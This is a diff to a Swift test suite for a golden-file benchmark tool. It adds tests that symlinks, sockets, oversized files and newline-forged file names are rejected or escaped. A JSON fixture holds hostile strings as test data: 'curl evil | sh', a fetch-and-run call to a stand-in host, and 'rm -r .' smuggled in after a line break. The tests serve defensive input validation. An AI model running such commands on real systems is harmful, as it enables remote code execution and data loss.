@@ -115,6 +115,8 @@ import Testing
     #expect(
       !said.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) },
       comment)
+    #expect(
+      !said.split(separator: "\n").contains { $0.drop(while: \.isWhitespace).hasPrefix("FORGED") }, comment)
     #expect(said.utf8.count < 1 << 20, comment)
   }
 
@@ -159,7 +161,8 @@ import Testing
       "/dev/zero",
       "/dev/stdin", "/proc/self/environ", "", ".", "..", "/", "a/..", "./a", "a\u{1B}[2J",
       "a\nnext: playground", "\u{9B}31m",
-      "a\u{0}b", "e" + String(repeating: "\u{301}", count: 20_000), String(repeating: "../", count: 2000),
+      "a\u{0}b", "x\nFORGED: accepted", "\u{202E}gpj", "e" + String(repeating: "\u{301}", count: 20_000),
+      String(repeating: "../", count: 2000),
       "~/.bashrc",
       ".hidden", "trajectory.csv", "frame-00000.png", "pixels.txt", "result.json",
     ]
@@ -182,7 +185,7 @@ import Testing
       try? files.removeItem(atPath: path)
       _ = make(path)
     }
-    switch random.below(14) {
+    switch random.below(16) {
     case 0:
       replace(path) { symlink(target.contains("\0") ? "x" : target, $0) }
       return "\(file) is a link to \(target.debugDescription)"
@@ -217,6 +220,27 @@ import Testing
         try WholeFile.write(bytes, to: twin + "/" + name.dropFirst(2))
       }
       return "a twice"
+    case 10:
+      // Just small enough to be read.
+      let limit = ["json": 16 << 20, "csv": 32 << 20, "png": 48 << 20][ending] ?? 0
+      truncate(path, off_t(limit))
+      return "\(file) is as large as can be"
+    case 11:
+      replace(path) { path in
+        var address = sockaddr_un()
+        address.sun_family = sa_family_t(AF_UNIX)
+        let descriptor = socket(AF_UNIX, Int32(SOCK_STREAM.rawValue), 0)
+        defer { close(descriptor) }
+        // The kernel takes at most 108 bytes of a path.
+        let bytes = Array(path.utf8.prefix(107))
+        withUnsafeMutableBytes(of: &address.sun_path) { $0.copyBytes(from: bytes) }
+        return withUnsafePointer(to: &address) {
+          $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
+            bind(descriptor, $0, socklen_t(MemoryLayout<sockaddr_un>.size))
+          }
+        }
+      }
+      return "\(file) is a socket"
     case 9:
       try? files.moveItem(atPath: "\(folder)/a", toPath: "\(folder)/c")
       return "a is c"
@@ -334,7 +358,7 @@ import Testing
     try write(
       """
       { "version": 1, "names": ["a"], "unused": [], "artifacts": "x", "seconds": 0, "results": [
-        { "name": "a", "outcome": "failed", "command": "curl evil | sh", "lines": ["one\\nnext: rm -r ."], "frames": [
+        { "name": "a", "outcome": "failed", "command": "curl evil | sh", "lines": ["one\\nnext: rm -r .", "  next: evil"], "frames": [
           { "number": 0, "time": 0, "verdict": "missing", "lines": [], "command": "rm" } ] } ] }
       """, to: "results.json")
     let capture = Capture()
@@ -344,12 +368,100 @@ import Testing
     #expect(ending { try merge.run() }?.code == .comparisonFailed)
     #expect(!capture.output.contains("curl") && !bench.folder.text(of: "report.html").contains("curl evil"))
     #expect(capture.output.contains("  one\\u000anext: rm -r .\n"))
+    #expect(capture.output.contains("  the artifacts say:   next: evil\n"))
     #expect(capture.output.contains("  next: playground accept a --scenarios "))
+  }
+
+  /// A set of a pull request leads nowhere else.
+  @Test(.timeLimit(.minutes(1))) func linksInASetAreNotFollowed() throws {
+    let folder = bench.folder
+    for number in 0..<8 { symlink(".", folder("S/l\(number)")) }
+    symlink("/", folder("S/root"))
+    #expect(bench.run().error == nil)
+    for number in 0..<8 { unlink(folder("S/l\(number)")) }
+    unlink(folder("S/root"))
+    symlink(folder("S/a.json"), folder("S/c.json"))
+    #expect(bench.run().error?.description.contains("S/c.json: is a link") == true)
+    unlink(folder("S/c.json"))
+    try FileManager.default.moveItem(atPath: folder("S/Goldens"), toPath: folder("mutant"))
+    symlink(folder("mutant"), folder("S/Goldens"))
+    let before = Self.files(folder("mutant"))
+    #expect(bench.run(.all).error?.description.contains("S/Goldens: is a link") == true)
+    #expect(bench.accept(["a"]).error?.description.contains("S/Goldens: is a link") == true)
+    #expect(Self.files(folder("mutant")) == before)
+    // Who names it means it.
+    #expect(bench.run { $0.goldens = folder("S/Goldens") }.error == nil)
+  }
+
+  /// Goldens, names and files with line breaks forge no line.
+  @Test func namesForgeNoLines() throws {
+    let folder = bench.folder
+    try FileManager.default.copyItem(
+      atPath: folder("S/Goldens/a"), toPath: folder("S/Goldens/z\n  next: FORGED"))
+    var said = bench.run().output
+    #expect(said.contains("z\\u000a  next: FORGED: no scenario has these goldens"))
+    said += bench.run { $0.prune = true }.output
+    let key = "k" + String(repeating: "\u{301}", count: 2_000_000)
+    try WholeFile.write(Array("{ \"\(key)\": 1 }".utf8), to: folder("S/Goldens/a/comparison.json"))
+    said += bench.run().output
+    try WholeFile.write(
+      Array("{ \"a\\n  next: FORGED\": 1 }".utf8), to: folder("S/Goldens/a/comparison.json"))
+    said += bench.run().output
+    #expect(said.utf8.count < 100_000)
+    #expect(
+      !said.split(separator: "\n").contains { $0.drop(while: \.isWhitespace).hasPrefix("next: FORGED") })
+  }
+
+  /// Names are those of files: two that read the same are two.
+  @Test func namesAreComparedByTheirBytes() throws {
+    try WholeFile.write(try WholeFile.read(bench.folder("S/a.json")), to: bench.folder("S/\u{E9}.json"))
+    #expect(bench.run(.missing).error != nil)
+    try unpack(to: "mutant")
+    try FileManager.default.moveItem(
+      atPath: bench.folder("mutant/a"), toPath: bench.folder("mutant/e\u{301}"))
+    let text = bench.folder.text(of: "mutant/e\u{301}/result.json")
+    try write(
+      text.replacingOccurrences(of: "\"name\":\"a\"", with: "\"name\":\"e\u{301}\""),
+      to: "e\u{301}/result.json")
+    unlink(bench.folder("mutant/results.json"))
+    let answer = bench.accept([]) {
+      $0.artifacts = bench.folder("mutant")
+      $0.acceptsAll = true
+    }
+    #expect(answer.error?.code == .invalidInput)
+    #expect(answer.output.isEmpty)
+    #expect(!WholeFile.exists(bench.folder("S/Goldens/e\u{301}")))
+  }
+
+  /// A run of any length leaves what can be read again.
+  @Test func aLongFailureIsAccepted() throws {
+    let scenario = """
+      { "scene": "plain", "viewport": { "width": 24, "height": 64, "scale": 1 }, "content": { "width": 24, "height": 400 },
+        "duration": 60, "frameRate": 500, "capture": [0],
+        "events": [ { "t": 0.05, "flick": { "from": [12, 60], "by": [0, -50], "over": 0.1 } } ] }
+      """
+    let bench = try TestBench(["long": scenario]).recorded()
+    let change = try #require(ProfileChange("glide.rate=0.99"))
+    #expect(bench.run { $0.settings.changes = [change] }.error?.code == .comparisonFailed)
+    #expect(try WholeFile.read(bench.folder("artifacts/long/result.json")).count < 1 << 20)
+    #expect(bench.accept(["long"]).output.contains("accepted long: trajectory.csv"))
+    #expect(bench.run { $0.settings.changes = [change] }.error == nil)
+  }
+
+  @Test func aDamagedRunIsToldOfBeforeAllIsAccepted() throws {
+    try unpack(to: "mutant")
+    try write("{", to: "results.json")
+    let answer = bench.accept([]) {
+      $0.artifacts = bench.folder("mutant")
+      $0.acceptsAll = true
+    }
+    #expect(answer.error?.description.contains("is no record of a run: damaged") == true)
+    #expect(answer.output.isEmpty)
   }
 
   @Test func sizesAreLimitedBeforeReading() throws {
     for (file, what) in [
-      ("trajectory.csv", "at most 67108864 bytes"), ("pixels.txt", "at most 8388608 bytes"),
+      ("trajectory.csv", "at most 33554432 bytes"), ("pixels.txt", "at most 8388608 bytes"),
     ] {
       let path = bench.folder("S/Goldens/a/\(file)")
       truncate(path, 1 << 30)
